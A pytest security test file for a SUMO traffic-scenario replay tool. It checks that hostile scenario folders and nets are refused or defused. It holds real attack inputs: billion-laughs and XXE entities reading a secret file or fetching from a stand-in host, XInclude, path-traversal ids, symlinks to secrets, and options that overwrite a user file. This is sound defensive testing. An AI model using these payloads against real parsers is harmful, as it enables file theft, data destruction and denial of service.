"""A scenario folder or a net that somebody sent is data, whatever it holds.

Each hostile folder is an honest one in which one thing asks for more: a file to be written or
read, an address to be called, memory or time without end. SUMO itself is real.
"""

from __future__ import annotations

import importlib
import os
import re
import shutil
import socket
import subprocess
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from processes import cpu_s

from merge_sumo.errors import UserError
from merge_sumo.road import allowed, received
from merge_sumo.road.merge import default_net_path, road_of
from merge_sumo.scenario.scenario import US23
from merge_sumo.sumo import opendrive as opendrive_module
from merge_sumo.sumo import replay as replay_module
from merge_sumo.sumo.binding import run_program, sumo_program
from merge_sumo.sumo.hosting import hosted_net
from merge_sumo.sumo.opendrive import opendrive
from merge_sumo.sumo.replay import Replay, open_gui, replay
from merge_sumo.sumo.replay_folder import CASE, CONFIG, LABELS, NET, RECORD, TYPES, VIEW
from merge_sumo.sumo.world import World

HONEST = Path(__file__).resolve().parents[2] / "scenarios" / "no-reaction"
LIMIT_S = 20.0
"""Of CPU time."""
HANG_S = 600.0
SECRET = "what-only-the-user-knows"  # noqa: S105 (of nobody)
RUNNABLE = {CONFIG, NET, TYPES, LABELS, RECORD, VIEW}
READ = (NET, TYPES, LABELS, RECORD)
"""The files that a replay reads."""


@dataclass
class Scene:
    """Where an attack happens: the folder that was sent, and what of the user's it aims at."""

    root: Path
    listener: socket.socket
    started: list[list[str]] = field(default_factory=list)

    @property
    def folder(self) -> Path:
        return self.root / "sent"

    @property
    def victim(self) -> Path:
        """A file of the user's that must stay as it is."""
        return self.root / "home" / "thesis.txt"

    @property
    def secret(self) -> Path:
        """A file of the user's that must not be shown."""
        return self.root / "home" / "secret.xml"

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.listener.getsockname()[1]}"

    def filled(self, text: str) -> str:
        """Put the names of this scene into the text of an attack."""
        names = {"VICTIM": str(self.victim), "SECRET": str(self.secret), "HOST": self.address}
        names |= {"NEW": str(self.root / "home" / "new.xml"), "UP": "../home/thesis.txt"}
        return re.sub(r"\{([A-Z]+)\}", lambda found: names[found[1]], text)

    def tree(self) -> dict[str, tuple[int, int, int, str]]:
        """Return kind, size, time and content of everything below, links not followed.

        The folder for temporary ones is left out: it must be empty, which is looked at by itself.
        """
        found = {}
        for path in sorted(set(self.root.rglob("*")) - {self.root / "tmp"}):
            status = path.lstat()
            plain = path.is_file() and not path.is_symlink() and status.st_size < 10**7
            content = path.read_bytes().hex() if plain else ""
            found[str(path)] = (status.st_mode, status.st_size, status.st_mtime_ns, content)
        return found


@pytest.fixture
def scene(tmp_path, monkeypatch) -> Iterator[Scene]:
    """Plant the files of a user, listen on an address, and look at every program started."""
    (tmp_path / "home").mkdir()
    (tmp_path / "tmp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        scene = Scene(tmp_path, listener)
        scene.victim.write_text("ten years of work")
        scene.secret.write_text(f"<{SECRET}>{SECRET}</{SECRET}>")
        shutil.copytree(HONEST, scene.folder)
        (scene.folder / "motion.png").unlink()

        def looked_at(name: str, arguments: list[str], stage: Path, **options: Any) -> object:
            assert stage.parent == tmp_path / "tmp"
            if name == "netconvert":
                assert {path.name for path in stage.iterdir()} == {opendrive_module.NET}
            else:
                assert {path.name for path in stage.iterdir()} == RUNNABLE
            assert all(path.is_file() and not path.is_symlink() for path in stage.iterdir())
            for path in stage.iterdir():
                assert_harmless(path.read_text(encoding="utf-8"))
            assert not any("/" in argument or ":" in argument for argument in arguments)
            scene.started.append([name, *arguments])
            return run_program(name, arguments, stage, **options)

        monkeypatch.setattr(replay_module, "run_program", looked_at)
        monkeypatch.setattr(opendrive_module, "run_program", looked_at)
        yield scene


ELEMENTS = (
    "configuration input net-file additional-files time begin end step-length processing "
    "collision.action insertion-checks time-to-teleport default.speeddev fcd_replay_device "
    "device.fcd-replay.files report no-warnings xml-validation gui_only gui-settings-file start "
    "delay window-size breakpoints viewsettings scheme vehicles pois background viewport poi param "
    "net location edge lane junction request connection additional vType fcd-export timestep "
    "vehicle"
)
ATTRIBUTES = re.compile(r'([\w:.-]+)="([^"]*)"')
SCHEMA = "http://sumo.dlr.de/xsd/net_file.xsd"


def assert_harmless(text: str) -> None:
    """Look at what SUMO reads, by other means than the code that wrote it."""
    body = re.sub(r"<!--.*?-->", "", text, flags=re.DOTALL)
    assert set(re.findall(r"<([\w:.-]+)", body)) <= set(ELEMENTS.split())
    assert "<!" not in body
    assert body.count("<?") == body.startswith("<?xml ")
    for name, value in ATTRIBUTES.findall(body):
        if name in ("xmlns:xsi", "xsi:noNamespaceSchemaLocation"):
            continue
        own = set(value.split(",")) <= RUNNABLE or name == "guiShape"
        shown = value.replace("m/s", "")
        assert own or not re.search(r"[/\\&$%|<>]|\.\.|\.xml|://", shown), (name, value)
    assert SECRET not in text


def assert_nothing_happens(scene: Scene, act: Callable[[], object]) -> object:
    """Return what an attack came to: what `act` returns, or the sentence that refuses it."""
    before, before_s = scene.tree(), cpu_s()
    try:
        result = act()
    except UserError as error:
        result = str(error)
        assert result
        assert result.isprintable()
        assert len(result) < 1000
        assert SECRET not in result
    assert cpu_s() - before_s < LIMIT_S
    assert scene.tree() == before
    assert list((scene.root / "tmp").iterdir()) == []
    with pytest.raises(BlockingIOError):
        scene.listener.accept()
    return result


# --- What a hostile folder may do: a name, the file, and what becomes of its text ---------------

Edit = Callable[[str], str]
IDENTICAL, DIVERGED = "identical", "diverged"
REFUSED, UNPLAYABLE = "refused before SUMO is started", "refused by SUMO"


def instead(old: str, new: str) -> Edit:
    def edit(text: str) -> str:
        assert old in text
        return text.replace(old, new, 1)

    return edit


def added(text: str) -> Edit:
    """Put text before the end tag of the root."""

    def edit(old: str) -> str:
        body, _, end = old.rpartition("</")
        return f"{body}{text}</{end}"

    return edit


def first(text: str) -> Edit:
    """Put text behind the start tag of the root."""
    return lambda old: re.sub(r"(<(?!\?)[\w-]+[^>]*>)", lambda found: found[0] + text, old, count=1)


def within(section: str, option: str, value: str) -> Edit:
    return instead(f"</{section}>", f'<{option} value="{value}"/></{section}>')


ADDITIONAL = {
    "edgeData": '<edgeData id="a" file="{VICTIM}" freq="1"/>',
    "an e2 detector": '<e2Detector id="a" lane="ramp_0" pos="1" endPos="9" file="{VICTIM}"/>',
    "an include of an address": '<include href="http://{HOST}/a.xml"/>',
    "a flow without end": '<flow id="f" from="ramp" to="main_out" begin="0" end="1e9" '
    'period="0.001"/>',
    "an instruction": '<?include href="{SECRET}"?>',
}
"""What an additional file, and so a net, may hold beside what is allowed: all of it is dropped."""
BOMBS = {
    "billion laughs": "<!DOCTYPE l [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>",
    "an external file": '<!DOCTYPE l [<!ENTITY a11 SYSTEM "file://{SECRET}">]>',
    "a parameter entity": '<!DOCTYPE l [<!ENTITY % p SYSTEM "http://{HOST}/x.dtd"> %p;]>',
}


def bomb(declaration: str) -> Edit:
    def edit(text: str) -> str:
        (head, body), *_ = re.findall(r"^(<\?xml.*?\?>)?(.*)", text, re.DOTALL)
        use = "&a11;" if "a11" in declaration else ""
        return (head or "") + declaration + first(use * 50)(body)

    return edit


OF_A_KIND: dict[tuple[str, str], dict[str, Edit]] = {
    (CONFIG, IDENTICAL): {
        "a log in the configuration": within("report", "log", "{VICTIM}"),
        "a schema in the configuration": within("report", "save-schema", "{HOST}"),
        "a remote port": within("time", "remote-port", "48173"),
        "a script of python": within("time", "python-script", "{SECRET}"),
        "a net elsewhere": instead('"us23.net.xml"', '"{SECRET}"'),
        "no end": instead('<end value="12.9"/>', '<end value="1e15"/>'),
        **{f"{name} in the configuration": bomb(text) for name, text in BOMBS.items()},
    },
    (TYPES, IDENTICAL): {
        **{f"{name} in the types": added(text) for name, text in ADDITIONAL.items()},
        "a device of a type": instead(
            'emergencyDecel="1000"/>',
            'emergencyDecel="1000"><param key="has.ssm.device" value="true"/>'
            '<param key="device.toc.file" value="{VICTIM}"/></vType>',
        ),
    },
    (TYPES, REFUSED): {
        **{
            f"a length {value} of a type": instead('length="5"', f'length="{value}"')
            for value in ("nan", "{SECRET}")
        },
        "a colour that is a path": instead("0.90,0.62,0", "{SECRET}"),
        "a million types": added("<a/>" * 900_000),
    },
    (LABELS, IDENTICAL): {
        "a picture in the labels": added('<poi id="a" x="0" y="0" imgFile="{SECRET}"/>'),
    },
    (VIEW, IDENTICAL): {
        "a snapshot in the view": added('<snapshot file="{VICTIM}" time="1"/>'),
    },
    (CASE, IDENTICAL): {"a case that is no JSON": lambda _: "[" * 100_000},
    (RECORD, IDENTICAL): {
        "an XInclude in the record": first(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{SECRET}"/>'
        ),
    },
    (RECORD, DIVERGED): {"the other type": instead('type="vut"', 'type="pov"')},
    (RECORD, UNPLAYABLE): {
        "a lane in the other place": instead('lane="ramp_0"', 'lane="main_out_0"'),
    },
    (RECORD, REFUSED): {
        **{
            f"{column} {value} in the record": instead(f' {column}="', f' {column}="{value}" was="')
            for column, value in (("x", "nan"), ("pos", "1e300"))
        },
        "a time in the far future": instead('time="0.10"', 'time="9e99"'),
        "no vehicle in a row": lambda text: re.sub(
            r'(time="2.00">).*?(</timestep>)', r"\1\2", text, flags=re.DOTALL
        ),
    },
    (NET, REFUSED): {
        "a net of a million edges": added('<edge id="e"/>' * 250_000),
        "a net with a long shape": added(
            f'<edge id="e"><lane id="e_0" shape="{"1,1 " * 50_000}"/></edge>'
        ),
        "a net with coordinates that are none": instead('x="2000.000000"', 'x="nan"'),
        "a net with an id that is a path": instead('id="main_end"', 'id="../{SECRET}"'),
        "a net with an endless list of ids": instead('incLanes=""', f'incLanes="{"a" * 60_000}|"'),
    },
    (NET, IDENTICAL): {
        **{f"{name} in the net": added(text) for name, text in ADDITIONAL.items()},
        "a net with a projection of a file": instead('"!"', '"+proj=utm +nadgrids={SECRET}"'),
        "a net with a schema of its own": instead(SCHEMA, "http://{HOST}/net.xsd"),
        "a net with a controlled link": instead(
            'dir="s" state="Z"', 'dir="s" state="Z" tl="M" linkIndex="0" via="{SECRET}"'
        ),
        "a net of XML 1.1": instead('version="1.0"', 'version="1.1"'),
    },
}
TEXTS = {
    name: (file, edit, expected)
    for (file, expected), edits in OF_A_KIND.items()
    for name, edit in edits.items()
} | {
    f"{name} in {file}": (file, bomb(text), REFUSED)
    for name, text in BOMBS.items()
    for file in READ
}
"""Attacks that are a text: the file, the change, and what must come of it."""


def anew(make: Callable[[Path], object]) -> Callable[[Path], object]:
    def instead_of(path: Path) -> None:
        path.unlink()
        make(path)

    return instead_of


IN_PLACE: dict[str, Callable[[Path], object]] = {
    "a FIFO": anew(os.mkfifo),
    "a folder": anew(Path.mkdir),
    "a file of a terabyte": lambda path: os.truncate(path, 2**40),
    "a link to a secret": anew(lambda path: path.symlink_to("../home/secret.xml")),
    "a link to zeroes": anew(lambda path: path.symlink_to("/dev/zero")),
    "UTF-16": lambda path: path.write_text(path.read_text(), encoding="utf-16"),
    "NUL in the middle": lambda path: path.write_text(path.read_text().replace(">\n", ">\0\n")),
    "bytes of no text": lambda path: path.write_bytes(bytes(range(256)) * 100),
}
"""Attacks that are no text, on a file of the folder."""
FILES = {
    f"{what} in the place of {name}": (name, make, REFUSED if name in READ else IDENTICAL)
    for what, make in IN_PLACE.items()
    for name in (CONFIG, VIEW, CASE, *READ)
}


def attack(scene: Scene, name: str) -> str:
    """Make a folder hostile; return what must come of it."""
    if name in FILES:
        file, make, expected = FILES[name]
        make(scene.folder / file)
        return expected
    file, edit, expected = TEXTS[name]
    path = scene.folder / file
    text = edit(path.read_text(encoding="utf-8"))
    path.write_text(scene.filled(text), encoding="utf-8")
    return expected


ATTACKS = [*TEXTS, *FILES]


def verdict(result: object) -> str:
    if isinstance(result, Replay):
        return IDENTICAL if result.diverged_at_s is None else DIVERGED
    return UNPLAYABLE if str(result).startswith("SUMO cannot") else REFUSED


@pytest.mark.parametrize(
    "name",
    [
        *("a log in the configuration", "a schema in the configuration"),
        *("edgeData in the types", "edgeData in the net"),
        *("an e2 detector in the net", "a device of a type"),
    ],
)
def test_plain_sumo_does_what_the_attack_wants(scene, name):
    """That is: these attacks are none that would fail anyhow."""
    attack(scene, name)
    before = scene.tree()
    command = [sumo_program("sumo"), "-c", str(scene.folder / CONFIG)]
    subprocess.run(command, cwd=scene.root, capture_output=True, check=False, timeout=HANG_S)
    if scene.tree() == before:
        scene.listener.accept()[0].close()


SOME = [
    name if number % 3 == 0 else pytest.param(name, marks=pytest.mark.long)
    for number, name in enumerate(ATTACKS)
]
"""Each third: attacks of a kind stand beside each other."""


@pytest.mark.parametrize("name", SOME)
def test_a_hostile_folder_does_nothing_and_gets_a_sentence_or_a_true_verdict(scene, name):
    expected = attack(scene, name)
    result = assert_nothing_happens(scene, lambda: replay(scene.folder))
    assert verdict(result) == expected, result
    if expected in (REFUSED, UNPLAYABLE):
        assert str(scene.folder) in str(result)
    assert len(scene.started) == (expected != REFUSED)


@pytest.mark.parametrize("name", [name for name, (file, *_) in TEXTS.items() if file == NET])
def test_a_hostile_net_does_nothing_on_its_way_to_a_world_and_to_opendrive(scene, name):
    """As a scenario names it: nothing of it reaches libsumo, netconvert or an export."""
    expected = attack(scene, name)
    path = scene.folder / NET

    def use() -> str:
        road = road_of(path)
        assert_harmless(hosted_net(road, 2).decode())
        with World(2, road, scenario=US23) as world:
            world.advance()
        assert len(opendrive(road)) > 1000
        return IDENTICAL

    result = assert_nothing_happens(scene, use)
    # A replay goes without what a link leads over; a merge that needs it is none without.
    refused = expected != IDENTICAL or name == "a net with a controlled link"
    assert (result != IDENTICAL) == refused, result


@pytest.mark.parametrize("name", [name for name in FILES if name.endswith(NET)])
def test_a_net_that_is_no_plain_file_is_refused_without_waiting(scene, name):
    attack(scene, name)
    assert isinstance(assert_nothing_happens(scene, lambda: road_of(scene.folder / NET)), str)


def cleaned(net: bytes) -> bytes:
    return received.cleaned(net, allowed.NET, "it")


class TestAnHonestNet:
    @pytest.mark.parametrize(
        "projection", ["!", "-", "+proj=utm +zone=17 +ellps=WGS84 +datum=WGS84 +units=m +no_defs"]
    )
    def test_may_lie_somewhere_on_earth(self, projection):
        text = instead('projParameter="!"', f'projParameter="{projection}"')(
            default_net_path().read_text()
        )
        assert f'"{projection}"'.encode() in cleaned(text.encode())

    @pytest.mark.parametrize(
        "kind", ["--grid", "--spider --sidewalks.guess", "--rand --rand.iterations 30 --tls.guess"]
    )
    def test_has_no_value_that_is_refused_whatever_made_it(self, kind, tmp_path):
        arguments = [*kind.split(), "--seed", "1", "--output-file", "made.net.xml"]
        ended = run_program("netgenerate", arguments, tmp_path)
        assert ended.code == 0, ended.reason
        content = (tmp_path / "made.net.xml").read_bytes()
        root = received.parse(content, allowed.NET, "it")
        assert len(root.findall("edge")) == content.count(b"<edge ")


class TestTheProgramsThatAreStarted:
    def test_get_no_option_from_the_environment(self, scene, monkeypatch):
        for name in ("SUMO_HOME", "SUMO_LOGO", "SUMO_OPTIONS"):
            monkeypatch.setenv(name, str(scene.victim))
        result = assert_nothing_happens(scene, lambda: replay(scene.folder))
        assert verdict(result) == IDENTICAL

    def test_are_killed_with_what_they_started_when_their_time_is_up(self, tmp_path, monkeypatch):
        script = tmp_path / "sumo"
        script.write_text("#!/bin/sh\nsleep 600 &\necho $! > child\necho $$ > self\nwait\n")
        script.chmod(0o755)
        binding = importlib.import_module("merge_sumo.sumo.binding")
        monkeypatch.setattr(binding, "sumo_program", lambda _: str(script))
        ended = run_program("sumo", [], tmp_path, limit_s=1.0)
        assert (ended.code, ended.reason) == (-1, "it did not end within 1 s")
        started = [int((tmp_path / name).read_text()) for name in ("self", "child")]
        for _ in range(100):
            if not any(map(runs, started)):
                break
            time.sleep(0.1)  # the system takes its time, on a busy machine
        assert not any(map(runs, started))

    def test_of_the_gui_run_on_the_same_files_in_a_folder_of_ours(self, scene, monkeypatch):
        monkeypatch.setenv("DISPLAY", "127.0.0.1:0")
        shown = []

        def show(name: str, arguments: list[str], stage: Path, *, limit_s: float | None) -> object:
            assert {path.name for path in stage.iterdir()} == RUNNABLE
            for path in stage.iterdir():
                assert_harmless(path.read_text(encoding="utf-8"))
            shown.append((name, arguments, limit_s))
            return run_program("sumo", ["-c", CONFIG], stage)

        monkeypatch.setattr(replay_module, "run_program", show)
        for name in (
            "a snapshot in the view",
            "edgeData in the types",
            "a log in the configuration",
        ):
            attack(scene, name)
        assert assert_nothing_happens(scene, lambda: open_gui(scene.folder)) == 0
        assert shown == [("sumo-gui", ["-c", CONFIG, "--begin", "0.0"], None)]


def runs(pid: int) -> bool:
    """Return whether a process runs; one that ended and that nobody asked for does not."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(") ", 1)[1][0] not in "ZX"
    except FileNotFoundError:
        return False


def test_what_is_read_is_bounded_in_elements_and_in_bytes(tmp_path):
    most = b"<net>" + b"<a/>" * (received.MAX_ELEMENTS - 1) + b"</net>"
    assert len(received.parse(most, allowed.NET, "it")) == 0
    with pytest.raises(UserError, match="more than 5000 elements"):
        received.parse(most.replace(b"</net>", b"<a/></net>"), allowed.NET, "it")
    file = tmp_path / "file"
    file.write_bytes(b"x" * received.MAX_BYTES)
    assert len(received.read_bytes(file, "it", follow_links=False)) == received.MAX_BYTES
    file.write_bytes(b"x" * (received.MAX_BYTES + 1))
    with pytest.raises(UserError, match="larger than 4 MiB"):
        received.read_bytes(file, "it", follow_links=False)
